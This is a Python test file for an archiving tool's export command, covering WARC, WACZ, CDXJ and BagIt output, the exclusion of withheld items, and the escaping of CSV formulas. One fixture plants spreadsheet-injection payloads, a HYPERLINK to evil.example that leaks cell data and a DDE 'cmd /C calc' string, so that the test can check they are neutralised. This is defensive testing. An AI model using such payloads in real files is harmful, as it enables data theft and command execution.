"""`creditline export`: what is handed out, left out, and refused; on the institute visited three times."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import bagit
import pytest
from starlette.testclient import TestClient

from archive.formats.cdxj import surt
from archive.formats.wacz_signing import SignatureState, check
from archive.http.exchange import entity
from archive.replay import replay
from archive.warc.capture import CaptureKind, NoteKind, RecordRef
from archive.warc.member import pack
from archive.warc.reader import capture_of, read_record_at, read_records
from archive.warc.record import Record, RecordType, to_bytes
from db.model.cell import cell
from db.model.item import StatementPlace
from db.model.text_marks import words_alone
from db.query.echoes import plain
from db.reading_room.room import app as room
from db.reading_room.room_settings import RoomSettings
from db.search.search import all_ids
from ingest.collection.collection import Layout, open_for_reading, open_for_work
from ingest.collection.item_choice import Choice
from ingest.exporting.order import Order
from ingest.exporting.selection import select

if TYPE_CHECKING:
    from tests.ingest.conftest import Ended, Story

Call = Callable[..., "Ended"]


def lines_of(text: str) -> list[dict[str, str]]:
    return [json.loads("{" + line.partition("{")[2]) for line in text.splitlines()]


def test_an_index_of_everything_lists_every_capture_with_its_place(
    story: Story, creditline: Call, tmp_path: Path
) -> None:
    folder = story.third.layout.directory
    done = creditline("-C", folder, "export", "cdxj", "--all", "-o", tmp_path / "all.cdxj")
    assert done.code == 0, done.err
    text = (tmp_path / "all.cdxj").read_text(encoding="utf-8")
    assert text.encode().splitlines() == sorted(text.encode().splitlines())
    listed = {(line["filename"], int(line["offset"])): line for line in lines_of(text)}
    captures = [
        capture
        for path in (folder / "warcs").iterdir()
        for record in read_records(path)
        if (capture := capture_of(record)) is not None
    ]
    assert listed.keys() == {(capture.ref.file, capture.ref.offset) for capture in captures}
    for capture in captures:
        assert int(listed[capture.ref.file, capture.ref.offset]["length"]) == capture.ref.length


def test_an_index_of_an_item_lists_its_captures_on_standard_output(story: Story, creditline: Call) -> None:
    folder, url = story.third.layout.directory, story.renamed[1]
    done = creditline("-C", folder, "export", "cdxj", url)
    assert done.code == 0
    listed = lines_of(done.out)
    urls = {line["url"] for line in listed}
    assert {*story.renamed} <= urls, "the address it had before belongs to it"
    assert sum(line["url"] == url for line in listed) == 1
    assert surt(url) in done.out
    for line in listed:
        path = folder / "warcs" / line["filename"]
        assert read_record_at(path, int(line["offset"])).get("WARC-Target-URI") == line["url"]


def test_an_existing_file_is_not_overwritten_without_replace(story: Story, creditline: Call, tmp_path: Path) -> None:
    folder, output = story.third.layout.directory, tmp_path / "all.cdxj"
    output.write_text("mine", encoding="utf-8")
    done = creditline("-C", folder, "export", "cdxj", "--all", "-o", output)
    assert (done.code, output.read_text(encoding="utf-8")) == (2, "mine")
    assert "--replace" in done.err
    assert creditline("-C", folder, "export", "cdxj", "--all", "-o", output, "--replace").code == 0
    assert output.read_text(encoding="utf-8") != "mine"
    assert [path.name for path in tmp_path.iterdir()] == ["all.cdxj"]


@pytest.mark.parametrize("output", ["nowhere/all.cdxj", "warcs/all.cdxj"])
def test_an_output_that_cannot_be_written_or_would_be_lost_is_refused(
    story: Story, creditline: Call, output: str
) -> None:
    folder = story.third.layout.directory
    done = creditline("-C", folder, "export", "cdxj", "--all", "-o", folder / output)
    assert done.code == 2, done.err
    assert not (folder / output).exists()


def test_a_dash_is_no_name_of_an_output(
    folder: Path, creditline: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    done = creditline("-C", folder, "cite", "--all", "-o", "-")
    assert (done.code, done.out, "standard output" in done.err) == (2, "", True), done
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("verb", [("export", "cdxj", "--all"), ("export", "text", "--all"), ("cite", "--all")])
@pytest.mark.parametrize("output", ["catalogue.db", "catalogue.db-wal", "creditline.toml", "run.lock", "a link"])
def test_an_output_never_replaces_a_part_of_a_collection(
    folder: Path, creditline: Call, tmp_path: Path, verb: tuple[str, ...], output: str
) -> None:
    (tmp_path / "a link").symlink_to(folder / "catalogue.db")
    named = tmp_path / output if output == "a link" else folder / output
    before = {path: path.read_bytes() for path in folder.iterdir() if path.is_file()}
    done = creditline("-C", folder, *verb, "-o", named, "--replace")
    assert (done.code, "of a collection" in done.err) == (2, True), done.err
    assert {path: path.read_bytes() for path in folder.iterdir() if path.is_file()} == before


def test_a_formula_in_a_cell_of_a_bag_is_written_as_text() -> None:
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "＝1"):
        assert cell(formula) == f"'{formula}"
    for plain_cell in ("A = B", "", None, -7, 3.5, "Jan-Kowal"):
        assert cell(plain_cell) == plain_cell


FORMULA = re.compile(r"[\s\x00-\x1f]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
"""What a spreadsheet takes for the start of a formula, whatever invisible characters stand before it."""


@pytest.fixture
def with_formulas(creditline: Call, foreign_warc: Callable[..., Any], tmp_path: Path) -> Path:
    """A collection of one page whose every word is a formula."""
    words = '=HYPERLINK("http://evil.example/?"&A1,"The harbour")'
    page = (
        f"<!doctype html><html lang='en'><head><title>{words}</title><meta name='author' content='@SUM Kowal'>"
        f"<meta property='og:type' content='article'></head><body><article><h1>{words}</h1>"
        "<p class='byline'>By @SUM Kowal</p><p>-1+cmd|' /C calc'!A0 was dredged again this spring, they say.</p>"
        + "<p>The harbour of the old town was dredged again this spring, and it cost less than planned.</p>" * 6
        + "<p>Tags: <a rel='tag' href='/tag/x/'>+1+1</a></p></article></body></html>"
    )
    warc = foreign_warc()
    warc.response("http://institute.example/a/", page.encode())
    done = creditline("-C", tmp_path / "held", "import", warc.path, "--publisher", "http://institute.example/")
    assert done.code == 0, done.err
    return tmp_path / "held"


@pytest.mark.slow
def test_no_exported_table_has_a_cell_with_a_formula(with_formulas: Path, creditline: Call, tmp_path: Path) -> None:
    assert creditline("-C", with_formulas, "export", "bag", "--all", "-o", tmp_path / "bag").code == 0
    room_settings = RoomSettings(with_formulas / "catalogue.db", with_formulas / "warcs", name="The Archive")
    with TestClient(room(room_settings), "http://127.0.0.1:8000") as visitor:
        shown = visitor.get("/search.csv?q=harbour")
        none = visitor.get("/search.csv?q=nothinghasthisword")
    assert shown.status_code == 200
    # A table of nothing is still a table.
    assert none.text.splitlines() == shown.text.splitlines()[:1]
    # Excel opens a download by a click, and knows UTF-8 only by its mark.
    assert shown.content.startswith(b"\xef\xbb\xbfid,")
    tables = {path.name: path.read_text("utf-8") for path in (tmp_path / "bag/data/catalogue").glob("*.csv")}
    tables |= {
        "search": creditline("-C", with_formulas, "search", "harbour", "--format", "csv").out,
        "room": shown.text,
    }
    for name, table in tables.items():
        rows = list(csv.reader(io.StringIO(table.lstrip("\ufeff"))))
        assert [one for row in rows for one in row if FORMULA.match(one) and not _is_number(one)] == [], name
    for name in ("search", "room"):
        assert "'=HYPERLINK" in tables[name], name
    assert any("'=HYPERLINK" in tables[name] for name in tables if name.endswith(".csv"))


def _is_number(words: str) -> bool:
    try:
        float(words)
    except ValueError:
        return False
    return True


def test_an_export_without_named_items_is_refused(story: Story, creditline: Call) -> None:
    done = creditline("-C", story.third.layout.directory, "export", "cdxj")
    assert done.code == 2
    assert "--all" in done.err


# ── WARC ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def folder(story: Story, tmp_path: Path) -> Path:
    """The collection after its third run, to be changed freely."""
    return Path(shutil.copytree(story.third.layout.directory, tmp_path / "collection"))


def withhold(folder: Path, story: Story, item: str) -> None:
    with open_for_work(Layout(folder), story.settings) as work:
        work.note(NoteKind.WITHHOLDING, {"reason": "the author asked"}, about=item)


@pytest.fixture(scope="module")
def one_withheld(story: Story, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """That collection, of which one item is withheld."""
    folder = Path(shutil.copytree(story.third.layout.directory, tmp_path_factory.mktemp("withheld") / "collection"))
    with open_for_reading(story.third.layout) as catalogue:
        item = catalogue.item(story.renamed[1])
    assert item is not None
    withhold(folder, story, item.id)
    return folder


@pytest.fixture
def without_one(one_withheld: Path, tmp_path: Path) -> Path:
    """A copy of it."""
    return Path(shutil.copytree(one_withheld, tmp_path / "collection"))


def members_of(path: Path) -> dict[str, bytes]:
    data = path.read_bytes()
    return {one.id: data[one.ref.offset :][: one.ref.length] for one in read_records(path)}


def rebuilt(folder: Path, warc: Path, creditline: Call) -> Path:
    """Return a collection made only from *warc* and the settings of *folder*."""
    again = folder.parent / "again"
    (again / "warcs").mkdir(parents=True)
    shutil.copy(folder / "creditline.toml", again)
    shutil.copy(warc, again / "warcs" / "handed-20260101000000-00001.warc.gz")
    done = creditline("-C", again, "rebuild")
    assert done.code == 0, done.err
    return again


@pytest.mark.slow
def test_an_export_of_everything_holds_every_record_and_rebuilds_the_same(
    folder: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    output = tmp_path / "all.warc.gz"
    done = creditline("-C", folder, "export", "warc", "--all", "--with-settings", "-o", output)
    assert done.code == 0, done.err
    held = {name: member for path in (folder / "warcs").iterdir() for name, member in members_of(path).items()}
    handed = members_of(output)
    assert held.items() <= handed.items()
    assert len(handed) == len(held) + 1
    assert f"{len(held)} WARC records" in done.err
    again = rebuilt(folder, output, creditline)
    with open_for_reading(Layout(folder)) as before, open_for_reading(Layout(again)) as after:
        derived = {"item", "edition", "attribution", "tag", "statement", "term", "item_alias", "withholding"}
        assert [row for row in before.snapshot() if row[0] in derived] == [
            row for row in after.snapshot() if row[0] in derived
        ]


@pytest.mark.slow
def test_an_export_of_an_item_holds_the_evidence_of_its_claims_and_identity(
    folder: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    output = tmp_path / "some.warc.gz"
    done = creditline("-C", folder, "export", "warc", "-q", "seabed OR ports", "-o", output)
    assert done.code == 0, done.err
    assert creditline("verify", output).code == 0
    again = rebuilt(folder, output, creditline)
    with open_for_reading(Layout(folder)) as before, open_for_reading(Layout(again)) as after:
        named = all_ids(before.connection, "seabed OR ports")
        assert done.err.startswith(f"{len(named)} items, ")
        ids = after.all_item_ids()
        assert set(ids) >= set(named)
        # The export also holds the pages with the publisher's terms, which apply to the items.
        beside = [after.item(one) for one in set(ids) - set(named)]
        places = [held.statement.place for item in beside if item for held in item.terms]
        assert StatementPlace.TERMS_PAGE in places
        for one in [*ids, story.renamed[0]]:  # a former address of an item leads to it too
            held, again_held = before.item(one), after.item(one)
            assert held is not None
            assert again_held is not None
            # The collection's own settings for a publisher are not exported with an item.
            assert replace(again_held, publisher=held.publisher) == held
            assert before.editions(one) == after.editions(one)
    assert creditline("-C", again, "verify", "--all").code == 0


@pytest.mark.slow
def test_withheld_items_are_in_no_exported_record_and_are_counted(
    without_one: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    with open_for_reading(story.third.layout) as catalogue:
        item = catalogue.item(story.renamed[1])
        assert item is not None
    for number, words in enumerate((["--all"], ["-q", "ports", item.id])):
        output = tmp_path / f"{number}.warc.gz"
        done = creditline("-C", without_one, "export", "warc", *words, "-o", output)
        assert done.code == 0, done.err
        assert "1 withheld left out" in done.err
        urls = {record.get("WARC-Target-URI") for record in read_records(output)}
        assert urls.isdisjoint(story.renamed)
        assert creditline("verify", output).code == 0
        assert not any(item.id.encode() in record.block for record in read_records(output))
        for record in read_records(output):
            capture = capture_of(record)
            if capture is not None and capture.media_type == "application/rss+xml":
                assert item.url.encode() not in record.block, "feeds hold the text too"
        assert "of lists, feeds and other pages" in done.err
    alone = creditline("-C", without_one, "export", "warc", item.id, "-o", tmp_path / "none.warc.gz")
    assert alone.code == 2
    assert "1 withheld" in alone.err
    assert not (tmp_path / "none.warc.gz").exists()


@pytest.mark.slow
@pytest.mark.parametrize("form", ["warc", "wacz", "bag"])
def test_the_settings_of_a_collection_are_exported_only_on_request(
    folder: Path, creditline: Call, tmp_path: Path, form: str
) -> None:
    ending, found = {"warc": ".warc.gz", "wacz": ".wacz", "bag": ""}[form], {}
    for flags in ((), ("--with-settings",)):
        output = tmp_path / f"all{len(flags)}{ending}"
        assert creditline("-C", folder, "export", form, "--all", *flags, "-o", output).code == 0
        told = everything_in(output)
        found[flags] = [place for place, held in told if b'"connect"' in held or b"127.0.0.1:" in held]
    assert found[()] == []
    assert found[("--with-settings",)] != []
    refused = creditline("-C", folder, "export", form, "-q", "ports", "--with-settings", "-o", tmp_path / f"x{ending}")
    assert (refused.code, "only with everything" in refused.err) == (2, True)


def everything_in(output: Path) -> Iterator[tuple[str, bytes]]:
    """Yield the content of an export with its path, every record and every file unpacked."""
    if output.is_dir():
        for path in sorted(output.rglob("*")):
            if path.name.endswith(".warc.gz"):
                yield from everything_in(path)
            elif path.is_file():
                yield path.name, path.read_bytes()
    elif output.suffix == ".wacz":
        with zipfile.ZipFile(output) as held:
            held.extractall(output.with_suffix(".d"))
        for packed in output.with_suffix(".d").rglob("*.cdx.gz"):
            packed.with_suffix("").write_bytes(gzip.decompress(packed.read_bytes()))
        yield from everything_in(output.with_suffix(".d"))
    else:
        for record in read_records(output):
            block = record.block
            if record.type == RecordType.RESPONSE:
                block = entity(record.get("WARC-Target-URI") or "", record.block).body
            yield f"{output.name} {record.type} {record.get('WARC-Target-URI')}", block


@pytest.mark.slow
@pytest.mark.parametrize("form", ["warc", "wacz", "bag", "cdxj"])
def test_an_export_of_everything_has_no_trace_of_a_withheld_item(
    without_one: Path, story: Story, creditline: Call, tmp_path: Path, form: str
) -> None:
    with open_for_reading(story.third.layout) as catalogue:
        item = catalogue.item(story.renamed[1])
    assert item is not None
    assert item.edition.title is not None
    output = tmp_path / {"warc": "all.warc.gz", "wacz": "all.wacz", "bag": "all", "cdxj": "all.cdxj"}[form]
    done = creditline("-C", without_one, "export", form, "--all", "-o", output)
    assert done.code == 0, done.err
    if form == "cdxj":
        assert item.url not in output.read_text(encoding="utf-8")
        return
    given = {plain(item.edition.title.value), plain(item.edition.text[:60])[:40]}
    for place, held in everything_in(output):
        said = plain(held.decode("utf-8", "replace"))
        assert not [words for words in given if words in said], place
    assert "of lists, feeds and other pages" in done.err


def test_a_copy_of_the_text_of_a_withheld_page_is_not_exported(without_one: Path, story: Story) -> None:
    with open_for_reading(story.third.layout) as catalogue:
        item = catalogue.item(story.renamed[1])
    assert item is not None
    ref = RecordRef("x.warc.gz", 0, 1)
    beside = Record("resource", (("WARC-Target-URI", f"urn:text:{item.url}"),), b"words", ref)
    other = Record("resource", (("WARC-Target-URI", "urn:text:http://x.example/"),), b"words", ref)
    quoting = replace(other, block=b"as was said: " + item.edition.text[:300].encode())
    with open_for_reading(Layout(without_one)) as catalogue:
        order = Order(Layout(without_one), catalogue, Choice(everything=True), None, datetime.now(UTC), uuid4)
        echoes = select(order).echoes
        assert [echoes.carries(one) for one in (beside, other, quoting)] == [True, False, True]
        assert echoes.records == 2


def test_a_revisit_is_exported_with_its_original_unless_that_is_withheld(
    folder: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    with open_for_reading(Layout(folder)) as catalogue:
        one, other = (item for item in catalogue.items(catalogue.all_item_ids()[:2]))
    with open_for_work(Layout(folder), story.settings) as work:
        earlier = work.catalogue.capture(one.edition.captures[0])
        assert earlier is not None
        sent = replay(work.layout.warcs, earlier, work.catalogue.original)
        again = replace(sent, began=datetime(2027, 1, 1, tzinfo=UTC))
        revisit = work.archive.keep(earlier.publisher, again, earlier=earlier)
        work.archive.sync()
        # We write no revisits of other addresses; files of other programs hold them.
        work.catalogue.add_captures([replace(revisit, url=other.url)])
    assert revisit.kind is CaptureKind.REVISIT
    output = tmp_path / "other.warc.gz"
    done = creditline("-C", folder, "export", "warc", other.id, "-o", output)
    assert done.code == 0, done.err
    assert {revisit.id, earlier.id} <= members_of(output).keys()
    withhold(folder, story, one.id)
    done = creditline("-C", folder, "export", "warc", other.id, "-o", output, "--replace")
    assert done.code == 0, done.err
    assert {revisit.id, earlier.id}.isdisjoint(members_of(output))
    assert "1 capture with the same bytes" in done.err


def test_an_export_of_a_day_leaves_out_later_records(
    story: Story, folder: Path, creditline: Call, tmp_path: Path
) -> None:
    with open_for_reading(story.first.layout) as catalogue:
        last = max(capture.began for capture in catalogue.all_captures())
        first = {capture.id for capture in catalogue.all_captures()}
    output = tmp_path / "then.warc.gz"
    done = creditline("-C", folder, "export", "warc", "--all", "--at", last.isoformat(), "-o", output)
    assert done.code == 0, done.err
    assert {one.id for one in read_records(output) if capture_of(one) is not None} == first


@pytest.mark.damages_collection("a record is damaged")
def test_a_damaged_record_stops_the_export_and_leaves_no_file(
    folder: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    path = max((folder / "warcs").iterdir(), key=lambda one: one.stat().st_size)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    output = tmp_path / "out" / "all.warc.gz"
    output.parent.mkdir()
    done = creditline("-C", folder, "export", "warc", "--all", "-o", output)
    assert done.code == 4
    assert f"creditline -C {folder} verify" in done.err
    assert list(output.parent.iterdir()) == []


# ── WACZ ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.slow
def test_a_package_holds_each_edition_as_a_page_that_its_index_finds(
    story: Story, creditline: Call, tmp_path: Path
) -> None:
    folder, output = story.third.layout.directory, tmp_path / "all.wacz"
    done = creditline("-C", folder, "export", "wacz", "--all", "-o", output)
    assert done.code == 0, done.err
    package = zipfile.ZipFile(output)
    _, *pages = map(json.loads, package.read("pages/pages.jsonl").splitlines())
    with open_for_reading(Layout(folder)) as catalogue:
        editions = {one.id: one for item in catalogue.all_item_ids() for one in catalogue.editions(item)}
        terms = {record.statement.words for record in catalogue.statements()}
    assert {page["id"] for page in pages} == editions.keys()
    index = lines_of(gzip.decompress(package.read("indexes/index.cdx.gz")).decode())
    for page in pages:
        edition = editions[page["id"]]
        assert page["text"] == words_alone(edition.text, edition.marks)
        assert edition.title is None or page["title"] == edition.title.value
        assert any(line["url"] == page["url"] and line.get("status") == "200" for line in index)
    for line in index:
        data = package.read(f"archive/{line['filename']}")
        member = data[int(line["offset"]) :][: int(line["length"])]
        assert line["recordDigest"] == f"sha256:{hashlib.sha256(member).hexdigest()}"
        assert f"WARC-Target-URI: {line['url']}\r\n".encode() in gzip.decompress(member)
    told = json.loads(package.read("datapackage.json"))
    assert {one["title"] for one in told["licenses"]} <= terms
    assert told["licenses"]
    assert "Baltic Lantern" in told["title"]


def test_a_package_of_one_item_has_its_title_and_opens_at_it(story: Story, creditline: Call, tmp_path: Path) -> None:
    output = tmp_path / "one.wacz"
    done = creditline("-C", story.third.layout.directory, "export", "wacz", story.renamed[1], "-o", output)
    assert done.code == 0, done.err
    package = zipfile.ZipFile(output)
    told = json.loads(package.read("datapackage.json"))
    pages = [json.loads(line) for line in package.read("pages/pages.jsonl").splitlines()][1:]
    assert (told["title"], told["mainPageUrl"]) == (pages[-1]["title"], pages[-1]["url"])


def test_a_package_is_signed_with_a_key_that_is_made_once_and_kept_secret(
    story: Story, creditline: Call, tmp_path: Path
) -> None:
    key, found = tmp_path / "key.pem", []
    for number in range(2):
        output = tmp_path / f"{number}.wacz"
        words = ["-C", story.third.layout.directory, "export", "wacz", story.renamed[1]]
        done = creditline(*words, "-o", output, "--sign", key)
        assert done.code == 0, done.err
        assert ("a new key was made" in done.err) is (number == 0)
        package = zipfile.ZipFile(output)
        found.append(check(package.read("datapackage.json"), package.read("datapackage-digest.json")))
    assert [one.state for one in found] == [SignatureState.VALID] * 2
    assert found[0].public_key == found[1].public_key
    assert key.stat().st_mode & 0o777 == 0o600


def test_a_package_that_cannot_be_signed_is_refused_before_anything_is_written(
    story: Story, creditline: Call, tmp_path: Path
) -> None:
    key = tmp_path / "key.pem"
    key.write_text("no key", encoding="utf-8")
    for form in ("wacz", "cdxj"):
        words = ["-C", story.third.layout.directory, "export", form, "--all", "--sign", key]
        assert creditline(*words, "-o", tmp_path / f"x.{form}").code == 2
    assert [path.name for path in tmp_path.iterdir()] == ["key.pem"]
    words = ["-C", story.third.layout.directory, "export", "wacz", "--all", "--sign", tmp_path / "none" / "key.pem"]
    nowhere = creditline(*words, "-o", tmp_path / "x.wacz")
    assert (nowhere.code, f"there is no folder {tmp_path / 'none'}" in nowhere.err) == (2, True), nowhere.err
    assert [path.name for path in tmp_path.iterdir()] == ["key.pem"]


@pytest.mark.parametrize(
    ("form", "name", "ending"),
    [
        ("wacz", "x.zip", ".wacz"),
        ("wacz", "x", ".wacz"),
        ("warc", "x.wacz", ".warc.gz"),
        ("warc", "x.warc", ".warc.gz"),
    ],
)
def test_a_name_by_which_other_programs_would_not_know_the_export_is_refused(
    story: Story, creditline: Call, tmp_path: Path, form: str, name: str, ending: str
) -> None:
    signing = ["--sign", tmp_path / "key.pem"] if form == "wacz" else []
    done = creditline("-C", story.third.layout.directory, "export", form, "--all", "-o", tmp_path / name, *signing)
    assert (done.code, f"{name} is not the name of a" in done.err, f"let it end in {ending}" in done.err) == (2, 1, 1)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(("form", "name"), [("bag", "deposit.ZIP"), ("bag", "deposit.tar.gz"), ("notes", "notes.zip")])
def test_a_folder_is_not_named_like_a_packed_file(
    story: Story, creditline: Call, tmp_path: Path, form: str, name: str
) -> None:
    done = creditline("-C", story.third.layout.directory, "export", form, "--all", "-o", tmp_path / name)
    assert (done.code, f"{name} would be a folder" in done.err) == (2, True)
    assert f"name it without {Path(name).suffix};" in done.err
    assert not list(tmp_path.iterdir())


# ── BagIt ─────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.slow
def test_a_bag_holds_records_rows_and_events_but_no_withheld_items(
    without_one: Path, story: Story, creditline: Call, tmp_path: Path
) -> None:
    with open_for_reading(story.third.layout) as catalogue:
        item = catalogue.item(story.renamed[1])
        assert item is not None
    output = tmp_path / "bag"
    done = creditline("-C", without_one, "export", "bag", "--all", "-o", output)
    assert done.code == 0, done.err
    assert "1 withheld left out" in done.err
    assert bagit.Bag(str(output)).validate()
    warcs = list((output / "data/warcs").iterdir())
    captures = {one.id for warc in warcs for record in read_records(warc) if (one := capture_of(record)) is not None}
    tables = {
        path.stem: [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        for path in (output / "data/catalogue").glob("*.jsonl")
    }
    assert {row["id"] for row in tables["captures"]} == captures
    with open_for_reading(Layout(without_one)) as catalogue:
        held = {one.id: one for one in catalogue.items(catalogue.all_item_ids()) if one.withheld is None}
    assert {row["id"] for row in tables["items"]} == held.keys() == {row["item"] for row in tables["editions"]}
    for row in tables["items"]:
        assert row["text"] == held[row["id"]].edition.text
        assert row["credit_line"]
    for name, rows in tables.items():
        text = (output / f"data/catalogue/{name}.csv").read_text(encoding="utf-8")
        header, *lines = csv.reader(io.StringIO(text, newline=""))
        assert header[0] in ("id", "item")
        assert [dict(zip(header, line, strict=True)) for line in lines] == [
            {key: "" if value is None else str(value) for key, value in row.items()} for row in rows
        ]
    premis = (output / "data/premis.xml").read_text(encoding="utf-8")
    assert all(f"<eventIdentifierValue>{one}<" in premis for one in captures)
    assert item.id not in premis
    assert item.edition.text[:40] not in "".join(path.read_text(encoding="utf-8") for path in output.rglob("*.jsonl"))


@pytest.mark.slow
@pytest.mark.parametrize("form", ["wacz", "bag"])
def test_the_files_of_a_package_of_everything_are_those_of_the_collection_and_make_its_catalogue(
    folder: Path, creditline: Call, tmp_path: Path, form: str
) -> None:
    foreign = tmp_path / "wget.warc.gz"
    _write_as_wget_does(max((folder / "warcs").iterdir(), key=lambda one: one.stat().st_size), foreign)
    assert creditline("-C", folder, "import", foreign).code == 0
    output, again = tmp_path / f"all.{form}", tmp_path / "again"
    done = creditline("-C", folder, "export", form, "--all", "--with-settings", "-o", output)
    assert done.code == 0, done.err
    if form == "wacz":
        zipfile.ZipFile(output).extractall(tmp_path / "package")
        shutil.copytree(tmp_path / "package/archive", again / "warcs")
    else:
        shutil.copytree(output / "data/warcs", again / "warcs")
    for path in (folder / "warcs").iterdir():
        assert (again / "warcs" / path.name).read_bytes() == path.read_bytes()
    shutil.copy(folder / "creditline.toml", again)
    shutil.copy(folder / "catalogue.db", again)
    assert creditline("-C", again, "rebuild", "--check").code == 0, "the same catalogue, made from the package"


def _write_as_wget_does(source: Path, target: Path) -> None:
    """Write a response of *source* as another program would: other ids, the request first, named by the response."""
    records = list(read_records(source))
    number = next(n for n, record in enumerate(records) if record.type == "response")
    response, request = records[number], records[number + 1]
    theirs = {"WARC-Record-ID": "<urn:x:1>", "WARC-Date": "2020-01-01T00:00:00Z"}
    answer = {"WARC-Record-ID": "<urn:x:2>", "WARC-Date": "2020-01-01T00:00:00Z", "WARC-Concurrent-To": "<urn:x:1>"}
    left = ("Creditline", "WARC-Warcinfo-ID", "WARC-Concurrent-To")
    with target.open("wb") as file:
        for record, fields in ((request, theirs), (response, answer)):
            kept = dict(field for field in record.fields if not field[0].startswith(left))
            file.write(pack(to_bytes(tuple({**kept, **fields}.items()), record.block)))


def test_a_bag_is_never_overwritten(story: Story, creditline: Call, tmp_path: Path) -> None:
    (tmp_path / "bag").mkdir()
    words = ["-C", story.third.layout.directory, "export", "bag", "--all", "--replace"]
    assert creditline(*words, "-o", tmp_path / "bag").code == 2
